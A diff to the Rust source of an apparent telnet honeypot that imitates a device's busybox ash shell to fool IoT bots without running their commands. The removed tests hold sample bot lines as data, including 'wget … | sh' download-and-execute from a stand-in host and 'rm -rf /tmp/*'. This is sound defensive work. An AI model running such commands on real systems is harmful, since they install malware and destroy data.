@@ -1,328 +1,459 @@
-//! A device's shell that runs nothing: it answers the probes by which bots tell a shell from a trap, and nothing else.
+//! A device's shell that runs nothing: busybox's ash, as far as bots ask it to tell a shell from a trap.
+//!
+//! Nothing of what is brought here is run or kept but the beginnings of a few small files, until the connection ends.
+
+mod applets;
+mod files;
+mod line;
+mod programs;
+#[cfg(test)]
+mod tests;
 
 use super::Outcome;
 use crate::{Telnet, telnet::device::Device};
-use alloc::{
-    format,
-    string::{String, ToString},
-    vec::Vec,
-};
+use alloc::{format, string::String, vec::Vec};
+use core::cell::Cell;
+use files::Files;
 use honeymesh_types::WallTime;
+use line::{COMMANDS_MAX, Command, EXPANDS, Joint, commands, whole};
 
-/// Commands of one line that are answered.
-const COMMANDS_MAX: usize = 16;
-/// Words of one command that are looked at.
-const WORDS_MAX: usize = 64;
+/// The most that a line prints before a terminal has it, in bytes; the rest is lost.
+const OUTPUT_BYTES_MAX: usize = 7 * 1_024;
+/// The same as a terminal and telnet make it: some bytes become two.
+pub(crate) const SHOWN_BYTES_MAX: usize = 2 * OUTPUT_BYTES_MAX;
 /// What of a name is repeated, in bytes.
-const SHOWN_BYTES_MAX: usize = 256;
+const NAME_BYTES_MAX: usize = 256;
+/// The longest word that comes of an expansion, in bytes.
+const WORD_BYTES_MAX: usize = 4_096;
 /// Shells inside the first.
 const DEPTH_MAX: u8 = 9;
+/// Lines inside lines: `sh -c`, `$(…)`, a script.
+const NESTING_MAX: u8 = 3;
+/// What a line may cost, in steps: paths that are looked up, and lines of listings with [`ROW_STEPS`] each. Behind that nothing more of it
+/// is answered.
+const STEPS_MAX: usize = 1_024;
+const ROW_STEPS: usize = 4;
+/// Variables that are known; further ones are forgotten. Their values' length in bytes.
+const VARIABLES_MAX: usize = 16;
+const VALUE_BYTES_MAX: usize = 256;
+const NOT_FOUND: u32 = 127;
+/// Telnet's mark in front of a command; as data it is sent twice.
+const IAC: u8 = 255;
 
-pub(crate) const PROMPT: &[u8] = b"~ # ";
-
-const MOUNTS: &[u8] = b"rootfs / rootfs rw 0 0\r\n/dev/root / squashfs ro,relatime 0 0\r\nproc /proc proc rw,relatime 0 0\r\n\
-    sysfs /sys sysfs rw,relatime 0 0\r\ntmpfs /dev tmpfs rw,relatime,size=64k,mode=755 0 0\r\n\
-    devpts /dev/pts devpts rw,relatime,mode=600 0 0\r\ntmpfs /tmp tmpfs rw,relatime 0 0\r\n\
-    tmpfs /var tmpfs rw,relatime 0 0\r\n";
-
-/// The programs a device's busybox has; a bot that asks for another wants to hear that there is none.
-const APPLETS: [&[u8]; 34] = [
-    b"ash",
-    b"cat",
-    b"chmod",
-    b"cp",
-    b"cut",
-    b"dd",
-    b"df",
-    b"echo",
-    b"ftpget",
-    b"grep",
-    b"head",
-    b"hostname",
-    b"id",
-    b"ifconfig",
-    b"kill",
-    b"killall",
-    b"ls",
-    b"mkdir",
-    b"mount",
-    b"mv",
-    b"nc",
-    b"passwd",
-    b"ping",
-    b"ps",
-    b"reboot",
-    b"rm",
-    b"sh",
-    b"sleep",
-    b"tftp",
-    b"top",
-    b"umount",
-    b"uname",
-    b"uptime",
-    b"wget",
-];
-/// What ash does itself, and the words of which its programs are made.
-const BUILTINS: [&[u8]; 37] = [
-    b"cd", b"export", b"unset", b"set", b"read", b"exec", b"eval", b"trap", b"true", b"false", b":", b".", b"[", b"test",
-    b"ulimit", b"umask", b"wait", b"alias", b"history", b"help", b"shift", b"type", b"command", b"while", b"until", b"for",
-    b"do", b"done", b"if", b"then", b"else", b"elif", b"fi", b"case", b"esac", b"{", b"}",
-];
-/// Where programs are that nobody brought: one that is not known there is none.
-const PROGRAMS: [&[u8]; 5] = [b"/bin/", b"/sbin/", b"/usr/", b"/etc/", b"/lib/"];
-/// Where files may be that somebody brought: what is in them is not shown.
-const WRITABLE: [&[u8]; 4] = [b"/tmp/", b"/var/", b"/dev/", b"/mnt/"];
-
-/// A shell, and those that were started in it.
+/// What a session's shells know.
 #[derive(Debug, Default)]
-pub(crate) struct Nested(u8);
-
-/// What ash says when it starts.
-pub(crate) fn greeting(device: &Telnet) -> &[u8] {
-    &device.device.greeting
+pub(crate) struct Inside {
+    /// Shells that were started in the first.
+    depth: u8,
+    files: Files,
+    variables: Vec<(Vec<u8>, Vec<u8>)>,
+    status: u32,
+    /// What the line that is being answered may still cost, in steps.
+    steps: Cell<usize>,
 }
 
-/// Appends what the shell prints.
-pub(crate) fn run(line: &[u8], device: &Telnet, nested: &mut Nested, now: WallTime, answer: &mut Vec<u8>) -> Outcome {
-    let ash = Ash { device, now };
-    for (command, is_piped) in commands(line).take(COMMANDS_MAX) {
-        let words: Vec<&[u8]> = command.split(u8::is_ascii_whitespace).filter(|word| !word.is_empty()).take(WORDS_MAX).collect();
-        if matches!(words.as_slice(), [b"exit" | b"logout", ..]) {
-            if nested.0 == 0 {
-                return Outcome::Exit;
-            }
-            nested.0 -= 1;
-            continue;
-        }
-        // What goes to a file or a variable is not printed, and a shell that reads from a program says nothing.
-        if !(command.contains(&b'>') || is_piped && is_shell(&words)) {
-            ash.print(command, &words, nested, answer);
+/// What ash says when it starts, as a terminal shows it.
+pub(crate) fn greeting(device: &Telnet, answer: &mut Vec<u8>) {
+    show(device.device.greeting().as_bytes(), answer);
+}
+
+/// Appends what stands before each line.
+pub(crate) fn prompt(inside: &Inside, answer: &mut Vec<u8>) {
+    let at = inside.files.at();
+    let shown = match at.strip_prefix(files::HOME) {
+        Some(rest) if rest.is_empty() || rest.starts_with('/') => format!("~{rest} # "),
+        _ => format!("{at} # "),
+    };
+    show(shown.as_bytes(), answer);
+}
+
+/// Appends what the shell prints, at most [`SHOWN_BYTES_MAX`].
+pub(crate) fn run(line: &[u8], telnet: &Telnet, inside: &mut Inside, now: WallTime, answer: &mut Vec<u8>) -> Outcome {
+    inside.steps.set(STEPS_MAX);
+    let mut ash = Ash {
+        telnet,
+        now,
+        inside,
+        out: Vec::new(),
+        screen: Vec::new(),
+        captures: 0,
+        nesting: 0,
+        commands: COMMANDS_MAX,
+        is_quiet: false,
+        merges: false,
+        on_terminal: true,
+    };
+    let outcome = ash.list(&commands(line));
+    ash.flush();
+    show(&ash.screen, answer);
+    outcome
+}
+
+/// As the terminal and telnetd pass it on.
+fn show(text: &[u8], answer: &mut Vec<u8>) {
+    for byte in text {
+        match *byte {
+            b'\n' => answer.extend_from_slice(b"\r\n"),
+            IAC => answer.extend_from_slice(&[IAC, IAC]),
+            byte => answer.push(byte),
         }
     }
-    Outcome::Prompt
 }
 
-/// The commands of a line, and whether they read what the one before prints.
-fn commands(line: &[u8]) -> impl Iterator<Item = (&[u8], bool)> {
-    let mut rest = line;
-    let mut is_piped = false;
-    core::iter::from_fn(move || {
-        while !rest.is_empty() {
-            let end = rest.iter().position(|byte| matches!(byte, b';' | b'&' | b'|')).unwrap_or(rest.len());
-            let (command, behind) = rest.split_at(end);
-            let (joint, further) = match behind {
-                [b'&', b'&', further @ ..] | [b'|', b'|', further @ ..] => (false, further),
-                [first, further @ ..] => (*first == b'|', further),
-                [] => (false, behind),
-            };
-            rest = further;
-            let was_piped = core::mem::replace(&mut is_piped, joint);
-            let command = command.trim_ascii();
-            if !command.is_empty() {
-                return Some((command, was_piped));
-            }
-        }
-        None
-    })
-}
-
-fn is_shell(words: &[&[u8]]) -> bool {
-    matches!(words, [b"sh" | b"/bin/sh" | b"ash" | b"/bin/ash"] | [b"busybox" | b"/bin/busybox", b"sh" | b"ash"])
-}
-
+/// A line that is being answered.
 struct Ash<'a> {
-    device: &'a Telnet,
+    telnet: &'a Telnet,
     now: WallTime,
+    inside: &'a mut Inside,
+    /// What is printed where it goes now, and what is on the screen.
+    out: Vec<u8>,
+    screen: Vec<u8>,
+    /// How often what is printed goes elsewhere.
+    captures: u8,
+    nesting: u8,
+    /// Commands that may still run.
+    commands: usize,
+    is_quiet: bool,
+    merges: bool,
+    on_terminal: bool,
 }
 
 impl Ash<'_> {
-    fn print(&self, command: &[u8], words: &[&[u8]], nested: &mut Nested, answer: &mut Vec<u8>) {
-        let device: &Device = &self.device.device;
-        match words {
-            [b"/bin/busybox" | b"busybox", rest @ ..] => self.applet(command, rest, nested, answer),
-            [b"ls"] | [b"ls", b"/root" | b"." | b"~"] => {
-                self.device.left.iter().for_each(|left| self.line(answer, left.0));
-            }
-            _ if is_shell(words) => {
-                nested.0 = (nested.0 + 1).min(DEPTH_MAX);
-                answer.extend_from_slice(&device.greeting);
-            }
-            [b"echo", ..] => echo(command, answer),
-            [b"cat", file] => self.cat(file, answer),
-            [b"mount"] => answer.extend_from_slice(MOUNTS),
-            [b"uname", b"-a"] => {
-                self.line(answer, &format!("Linux {} {} {} GNU/Linux", self.device.host, device.kernel, device.machine));
-            }
-            [b"uname", b"-r"] => self.line(answer, device.kernel.split(' ').next().unwrap_or_default()),
-            [b"uname", b"-n"] | [b"hostname"] => self.line(answer, &self.device.host),
-            [b"uname", b"-m"] => self.line(answer, device.machine),
-            [b"uname"] => self.line(answer, "Linux"),
-            [b"uptime"] => self.line(answer, &device.uptime(self.now)),
-            [b"ifconfig", ..] => self.text(answer, &device.interfaces),
-            [b"ps", ..] => self.text(answer, &device.processes),
-            [b"id"] => self.line(answer, "uid=0(root) gid=0(root)"),
-            [b"whoami"] => self.line(answer, "root"),
-            [b"pwd"] => self.line(answer, "/root"),
-            [word, ..] => self.unknown(word, nested, answer),
-            [] => {}
-        }
+    fn device(&self) -> &Device {
+        &self.telnet.device
     }
 
-    fn cat(&self, file: &[u8], answer: &mut Vec<u8>) {
-        let device: &Device = &self.device.device;
-        let left = self.device.left.iter().find(|left| file.ends_with(left.0.as_bytes()));
-        match file {
-            b"/proc/mounts" | b"/etc/mtab" => answer.extend_from_slice(MOUNTS),
-            b"/bin/echo" | b"/bin/busybox" | b"/bin/sh" | b"/bin/ls" | b"/proc/self/exe" => {
-                answer.extend_from_slice(device.program_head);
+    fn list(&mut self, commands: &[Command]) -> Outcome {
+        let mut rest = commands;
+        while let [first, ..] = rest {
+            let mut end = whole(rest);
+            while rest.get(end).is_some_and(|next| next.joint == Joint::Pipe) {
+                end += whole(&rest[end..]);
             }
-            b"/proc/cpuinfo" => self.text(answer, device.processor),
-            b"/proc/version" => self.line(answer, &device.version),
-            b"/proc/uptime" => self.line(answer, &device.proc_uptime(self.now)),
-            _ => match left {
-                Some(left) => answer.extend_from_slice(left.1.as_bytes()),
-                None if is_brought(file) => {}
-                None => self.line(answer, &format!("cat: can't open '{}': No such file or directory", shown(file))),
+            let (pipeline, further) = rest.split_at(end);
+            rest = further;
+            let runs = match first.joint {
+                Joint::And => self.inside.status == 0,
+                Joint::Or => self.inside.status != 0,
+                Joint::Then | Joint::Pipe => true,
+            };
+            if runs && self.pipeline(pipeline) == Outcome::Exit {
+                return Outcome::Exit;
+            }
+            if self.captures == 0 {
+                self.flush();
+            }
+        }
+        Outcome::Prompt
+    }
+
+    fn pipeline(&mut self, pipeline: &[Command]) -> Outcome {
+        let (mut rest, mut input, first) = (pipeline, None, whole(pipeline));
+        while !rest.is_empty() {
+            let (unit, further) = rest.split_at(whole(rest));
+            rest = further;
+            let on_terminal = core::mem::replace(&mut self.on_terminal, rest.is_empty() && self.captures == 0);
+            let (outcome, printed) = if rest.is_empty() {
+                (self.unit(unit, input.take()), None)
+            } else {
+                let (outcome, printed) = self.captured(|ash| ash.unit(unit, input.take()));
+                (outcome, Some(printed))
+            };
+            self.on_terminal = on_terminal;
+            if outcome == Outcome::Exit && first == pipeline.len() {
+                return Outcome::Exit;
+            }
+            input = printed;
+        }
+        Outcome::Prompt
+    }
+
+    /// What is printed meanwhile goes here.
+    fn captured<T>(&mut self, run: impl FnOnce(&mut Self) -> T) -> (T, Vec<u8>) {
+        let before = core::mem::take(&mut self.out);
+        self.captures += 1;
+        let result = run(self);
+        self.captures -= 1;
+        (result, core::mem::replace(&mut self.out, before))
+    }
+
+    /// A command, or several that are bound together, with their redirections.
+    fn unit(&mut self, unit: &[Command], input: Option<Vec<u8>>) -> Outcome {
+        let ([first, ..], [.., last]) = (unit, unit) else { return Outcome::Prompt };
+        if self.commands == 0 || !self.takes(0) || self.screen.len() + self.out.len() >= OUTPUT_BYTES_MAX {
+            return Outcome::Prompt;
+        }
+        self.commands -= 1;
+        let before = (self.is_quiet, self.merges);
+        (self.is_quiet, self.merges) = (self.is_quiet || last.is_quiet, self.merges || last.merges);
+        let input = match &last.from {
+            Some(from) => match self.opened(from) {
+                Some(text) => Some(text),
+                None => {
+                    (self.is_quiet, self.merges) = before;
+                    return Outcome::Prompt;
+                }
             },
-        }
-    }
-
-    /// What ash says to a command that is none; nothing to those that print nothing.
-    fn unknown(&self, word: &[u8], nested: &Nested, answer: &mut Vec<u8>) {
-        let name = PROGRAMS
-            .iter()
-            .find_map(|folder| word.strip_prefix(*folder))
-            .map(|rest| rest.rsplit(|byte| *byte == b'/').next().unwrap_or_default());
-        let is_known = |name: &[u8]| APPLETS.contains(&name) || BUILTINS.contains(&name);
-        let is_there = match name {
-            Some(name) => is_known(name),
-            // Somebody brought it, and it runs.
-            None if word.contains(&b'/') => true,
-            None => {
-                is_known(word)
-                    || word.contains(&b'=')
-                    || word.starts_with(b"(")
-                    || word.starts_with(b"$")
-                    || word.starts_with(b"#")
-            }
+            None => input,
         };
-        if !is_there {
-            let shell = if nested.0 == 0 { "-sh" } else { "sh" };
-            self.line(answer, &format!("{shell}: {}: not found", shown(word)));
+        let outcome = match &last.into {
+            None => self.bound(unit, first, input.as_deref()),
+            Some((name, appends)) => match self.target(name) {
+                None => Outcome::Prompt,
+                Some(path) => {
+                    let on_terminal = core::mem::replace(&mut self.on_terminal, false);
+                    let (outcome, printed) = self.captured(|ash| ash.bound(unit, first, input.as_deref()));
+                    self.on_terminal = on_terminal;
+                    self.inside.files.write(&path, &printed, *appends);
+                    outcome
+                }
+            },
+        };
+        (self.is_quiet, self.merges) = before;
+        outcome
+    }
+
+    /// What stands in a file that is to be read; `None`, and a complaint, if there is none.
+    fn opened(&mut self, name: &[u8]) -> Option<Vec<u8>> {
+        let name = self.expanded(name);
+        let path = self.path(&name);
+        let content = self.inside.files.read(&path, self.telnet, self.now);
+        if content.is_none() {
+            self.refuse(&format!("can't open {}: no such file", shown(&name)));
+        }
+        content.map(|content| content.head)
+    }
+
+    /// The file that is to be written; `None`, and a complaint, if that cannot be.
+    fn target(&mut self, name: &[u8]) -> Option<String> {
+        let name = self.expanded(name);
+        let path = self.path(&name);
+        match self.inside.files.refuses(&path, self.telnet) {
+            None => Some(path),
+            Some(why) => {
+                self.refuse(&format!("can't create {}: {why}", shown(&name)));
+                None
+            }
         }
     }
 
-    fn applet(&self, command: &[u8], words: &[&[u8]], nested: &mut Nested, answer: &mut Vec<u8>) {
-        match words {
-            [] => answer.extend_from_slice(&self.device.device.multi_call),
-            // busybox inside busybox is no probe.
-            [b"busybox" | b"/bin/busybox", ..] => {}
-            [applet, ..] if APPLETS.contains(applet) => {
-                let at = memchr::memmem::find(command, applet).unwrap_or_default();
-                self.print(&command[at..], words, nested, answer);
+    fn bound(&mut self, unit: &[Command], first: &Command, input: Option<&[u8]>) -> Outcome {
+        let inner = unit.get(1..unit.len() - 1).unwrap_or_default();
+        match first.words.first().map(Vec::as_slice) {
+            Some(b"{" | b"(") if first.is_reserved => self.list(inner),
+            Some(b"if") if first.is_reserved => self.branch(unit),
+            Some(b"while") if first.is_reserved => {
+                self.reads(unit, input);
+                Outcome::Prompt
             }
-            [applet, ..] => {
-                answer.extend_from_slice(applet);
-                answer.extend_from_slice(b": applet not found\r\n");
+            Some(_) if first.is_reserved => Outcome::Prompt,
+            Some(b"for" | b"case") => {
+                self.inside.status = 0;
+                Outcome::Prompt
             }
+            _ => self.command(first, input),
         }
     }
 
-    #[expect(clippy::unused_self, reason = "reads as the shell's")]
-    fn line(&self, answer: &mut Vec<u8>, text: &str) {
-        answer.extend_from_slice(text.as_bytes());
-        answer.extend_from_slice(b"\r\n");
+    /// `if …; then …; elif …; else …; fi`.
+    fn branch(&mut self, unit: &[Command]) -> Outcome {
+        let find = |from: usize, words: &[&[u8]]| {
+            let mut at = from.min(unit.len());
+            while at < unit.len() && !words.iter().any(|word| unit[at].is(word)) {
+                at += whole(&unit[at..]);
+            }
+            at.min(unit.len())
+        };
+        let part = |from: usize, to: usize| unit.get(from..to).unwrap_or_default();
+        let mut at = 1;
+        while at < unit.len() {
+            let then = find(at, &[b"then"]);
+            if self.list(part(at, then)) == Outcome::Exit {
+                return Outcome::Exit;
+            }
+            let end = find(then + 1, &[b"elif", b"else", b"fi"]);
+            if self.inside.status == 0 {
+                return self.list(part(then + 1, end));
+            }
+            if unit.get(end).is_some_and(|command| command.is(b"else")) {
+                return self.list(part(end + 1, find(end + 1, &[b"fi"])));
+            }
+            at = if unit.get(end).is_some_and(|command| command.is(b"elif")) { end + 1 } else { unit.len() };
+        }
+        self.inside.status = 0;
+        Outcome::Prompt
     }
 
-    /// Lines, with the ends that a terminal gives them.
-    fn text(&self, answer: &mut Vec<u8>, text: &str) {
-        text.lines().for_each(|line| self.line(answer, line));
+    /// `while read i; do …; done < file`; any other loop is silent.
+    fn reads(&mut self, unit: &[Command], input: Option<&[u8]>) {
+        self.inside.status = 0;
+        let (Some(read), Some(input)) = (unit.get(1), input) else { return };
+        let (Some(b"read"), Some(name)) = (read.words.first().map(Vec::as_slice), read.words.last()) else { return };
+        let body = unit.get(3..unit.len() - 1).unwrap_or_default();
+        for line in input.split(|byte| *byte == b'\n').filter(|line| !line.is_empty()) {
+            if self.commands == 0 {
+                break;
+            }
+            let line: Vec<u8> = line.iter().copied().filter(|byte| *byte != 0).collect();
+            self.set(name, &line);
+            let _ = self.list(body);
+        }
+    }
+
+    fn command(&mut self, command: &Command, input: Option<&[u8]>) -> Outcome {
+        let mut words = Vec::new();
+        for word in &command.words {
+            let expanded = self.expanded(word);
+            if !(expanded.is_empty() && word.contains(&EXPANDS)) {
+                words.push(expanded);
+            }
+        }
+        let assigned = words.iter().take_while(|word| assignment(word).is_some()).count();
+        let rest: Vec<&[u8]> = words[assigned..].iter().map(Vec::as_slice).collect();
+        if rest.is_empty() {
+            for word in &words[..assigned] {
+                let (name, value) = assignment(word).unwrap_or_default();
+                self.set(name, value);
+            }
+            self.inside.status = 0;
+            return Outcome::Prompt;
+        }
+        self.dispatch(&rest, input)
+    }
+
+    fn set(&mut self, name: &[u8], value: &[u8]) {
+        let value = value[..value.len().min(VALUE_BYTES_MAX)].to_vec();
+        let variables = &mut self.inside.variables;
+        match variables.iter().position(|(known, _)| known == name) {
+            Some(at) => variables[at].1 = value,
+            None if variables.len() < VARIABLES_MAX && name.len() <= NAME_BYTES_MAX => variables.push((name.to_vec(), value)),
+            None => {}
+        }
+    }
+
+    /// A word with what its marks stand for.
+    fn expanded(&mut self, word: &[u8]) -> Vec<u8> {
+        let (mut new, mut rest) = (Vec::new(), word);
+        while let Some(at) = memchr::memchr(EXPANDS, rest).filter(|_| new.len() < WORD_BYTES_MAX) {
+            new.extend_from_slice(&rest[..at]);
+            rest = &rest[at + 1..];
+            match rest {
+                [b'(', inner @ ..] => {
+                    let end = memchr::memchr(EXPANDS, inner).unwrap_or(inner.len());
+                    let printed = self.printed_by(&inner[..end]);
+                    new.extend_from_slice(printed.trim_ascii_end());
+                    rest = inner.get(end + 1..).unwrap_or_default();
+                }
+                [b'?', further @ ..] => {
+                    new.extend_from_slice(format!("{}", self.inside.status).as_bytes());
+                    rest = further;
+                }
+                [b'$', further @ ..] => {
+                    new.extend_from_slice(crate::telnet::device::SHELL_PID.as_bytes());
+                    rest = further;
+                }
+                _ => rest = self.variable(rest, &mut new),
+            }
+        }
+        new.extend_from_slice(rest);
+        new.truncate(WORD_BYTES_MAX);
+        new
+    }
+
+    /// Appends the variable that begins here; what follows it.
+    fn variable<'a>(&self, rest: &'a [u8], new: &mut Vec<u8>) -> &'a [u8] {
+        let braced = rest.first() == Some(&b'{');
+        let text = &rest[usize::from(braced)..];
+        let is_name = |byte: &u8| byte.is_ascii_alphanumeric() || *byte == b'_';
+        let end = text.iter().position(|byte| !is_name(byte)).unwrap_or(text.len());
+        let (name, behind) = text.split_at(end);
+        if name.is_empty() {
+            new.push(b'$');
+            return rest;
+        }
+        let own: Option<&[u8]> = match name {
+            b"HOME" => Some(files::HOME.as_bytes()),
+            b"PATH" => Some(b"/bin:/sbin:/usr/bin:/usr/sbin"),
+            b"SHELL" => Some(b"/bin/sh"),
+            b"USER" | b"LOGNAME" => Some(b"root"),
+            b"PWD" => Some(self.inside.files.at().as_bytes()),
+            b"0" => Some(b"-sh"),
+            _ => None,
+        };
+        let set = self.inside.variables.iter().find(|(known, _)| known == name).map(|(_, value)| value.as_slice());
+        new.extend_from_slice(set.or(own).unwrap_or_default());
+        if braced { memchr::memchr(b'}', behind).map_or(&[], |end| &behind[end + 1..]) } else { behind }
+    }
+
+    /// Whether something that costs so much is still done.
+    fn takes(&self, steps: usize) -> bool {
+        let left = self.inside.steps.get();
+        self.inside.steps.set(left.saturating_sub(steps));
+        left > 0
+    }
+
+    /// The path that a word means; of one that is too long, or where all is spent, the one that nothing has.
+    fn path(&self, word: &[u8]) -> String {
+        if !self.takes(1) {
+            return String::new();
+        }
+        self.inside.files.resolve(word).unwrap_or_default()
+    }
+
+    fn printed_by(&mut self, line: &[u8]) -> Vec<u8> {
+        let (_, printed) = self.captured(|ash| ash.inner(line));
+        printed
+    }
+
+    /// A line inside this one.
+    fn inner(&mut self, line: &[u8]) {
+        if self.nesting < NESTING_MAX {
+            self.nesting += 1;
+            let _ = self.list(&commands(line));
+            self.nesting -= 1;
+        }
+    }
+
+    fn print(&mut self, text: impl AsRef<[u8]>) {
+        let room = OUTPUT_BYTES_MAX.saturating_sub(self.out.len());
+        let text = text.as_ref();
+        self.out.extend_from_slice(&text[..text.len().min(room)]);
+    }
+
+    /// What a program complains of, with its status.
+    fn fail(&mut self, status: u32, text: &str) {
+        self.inside.status = status;
+        if self.is_quiet {
+            return;
+        }
+        if self.merges || self.captures == 0 {
+            return self.print(text);
+        }
+        let room = OUTPUT_BYTES_MAX.saturating_sub(self.screen.len());
+        self.screen.extend(text.bytes().take(room));
+    }
+
+    /// What ash itself complains of.
+    fn refuse(&mut self, what: &str) {
+        let shell = if self.inside.depth == 0 { "-sh" } else { "sh" };
+        self.fail(1, &format!("{shell}: {what}\n"));
+    }
+
+    fn flush(&mut self) {
+        let room = OUTPUT_BYTES_MAX.saturating_sub(self.screen.len());
+        self.out.truncate(room);
+        self.screen.append(&mut self.out);
     }
 }
 
-fn is_brought(file: &[u8]) -> bool {
-    !file.starts_with(b"/") || WRITABLE.iter().any(|folder| file.starts_with(folder))
+/// A name and what it is set to.
+fn assignment(word: &[u8]) -> Option<(&[u8], &[u8])> {
+    let at = memchr::memchr(b'=', word)?;
+    let is_name =
+        at > 0 && !word[0].is_ascii_digit() && word[..at].iter().all(|byte| byte.is_ascii_alphanumeric() || *byte == b'_');
+    is_name.then(|| (&word[..at], &word[at + 1..]))
 }
 
 fn shown(word: &[u8]) -> String {
-    String::from_utf8_lossy(&word[..word.len().min(SHOWN_BYTES_MAX)]).to_string()
-}
-
-/// Quotes taken off.
-fn echo(command: &[u8], answer: &mut Vec<u8>) {
-    let text: Vec<u8> = command.iter().copied().filter(|byte| !matches!(byte, b'\'' | b'"')).collect();
-    let words: Vec<&[u8]> = text.split(u8::is_ascii_whitespace).filter(|word| !word.is_empty()).skip(1).collect();
-    super::echo::echo(&words, b"\r\n", answer);
-}
-
-#[cfg(test)]
-mod tests {
-    use super::*;
-    use crate::drive::said;
-    use alloc::string::String;
-
-    fn cam() -> Telnet {
-        Telnet::default().named("cam").unwrap()
-    }
-
-    fn printed(line: &str) -> String {
-        said(&both(line, &mut Nested::default()))
-    }
-
-    fn both(line: &str, nested: &mut Nested) -> Vec<u8> {
-        let mut answer = Vec::new();
-        let _ = run(line.as_bytes(), &cam(), nested, crate::drive::NOW, &mut answer);
-        answer
-    }
-
-    #[test]
-    fn probes_are_answered_as_ash_answers_them() {
-        let telnet = cam();
-        let device = &telnet.device;
-        let uname = format!("Linux cam {} {} GNU/Linux\r\n", device.kernel, device.machine);
-        let table = [
-            ("enable", "-sh: enable: not found\r\n"),
-            ("/bin/busybox MIRAI", "MIRAI: applet not found\r\n"),
-            (
-                "cat /nothing; /bin/busybox ECCHI",
-                "cat: can't open '/nothing': No such file or directory\r\nECCHI: applet not found\r\n",
-            ),
-            ("busybox", core::str::from_utf8(&device.multi_call).unwrap()),
-            (r"echo -e '\x6b\x61\x6d\x69'", "kami\r\n"),
-            (r"/bin/busybox echo -ne '\x67a'", "ga"),
-            ("echo hi there", "hi there\r\n"),
-            ("echo -e x > /tmp/.f && cat /proc/mounts", core::str::from_utf8(MOUNTS).unwrap()),
-            ("wget http://198.51.100.1/b -O- | sh", ""),
-            ("sh", core::str::from_utf8(&device.greeting).unwrap()),
-            ("cd /tmp || cd /var/run || cd /mnt", ""),
-            ("rm -rf /tmp/*; chmod 777 a; ./a tcp; /tmp/a; A=b; while true; do x; done", ""),
-            ("/bin/busybox wget http://198.51.100.1/b", ""),
-            ("curl http://198.51.100.1/b; /usr/bin/python3 x", "-sh: curl: not found\r\n-sh: /usr/bin/python3: not found\r\n"),
-            ("uname -a", &uname),
-            ("id", "uid=0(root) gid=0(root)\r\n"),
-            ("", ""),
-        ];
-        for (line, expected) in table {
-            assert_eq!(printed(line), expected, "{line:?}");
-        }
-        assert!(both("cat /bin/echo", &mut Nested::default()).starts_with(b"\x7fELF"));
-    }
-
-    #[test]
-    fn a_shell_in_the_shell_calls_itself_otherwise_and_is_left_first() {
-        let mut nested = Nested::default();
-        assert!(said(&both("sh", &mut nested)).contains("BusyBox v"));
-        assert_eq!(said(&both("nosuch", &mut nested)), "sh: nosuch: not found\r\n");
-        let leave = |nested: &mut Nested| run(b"exit", &cam(), nested, crate::drive::NOW, &mut Vec::new());
-        assert_eq!((leave(&mut nested), leave(&mut nested)), (Outcome::Prompt, Outcome::Exit));
-        (0..30).for_each(|_| drop(both("sh", &mut nested)));
-        assert_eq!(nested.0, DEPTH_MAX);
-    }
-
-    #[test]
-    fn it_can_be_left() {
-        let mut answer = Vec::new();
-        assert_eq!(run(b"id; exit; id", &cam(), &mut Nested::default(), crate::drive::NOW, &mut answer), Outcome::Exit);
-        assert_eq!(said(&answer), "uid=0(root) gid=0(root)\r\n");
-    }
+    String::from_utf8_lossy(&word[..word.len().min(NAME_BYTES_MAX)]).into_owned()
 }
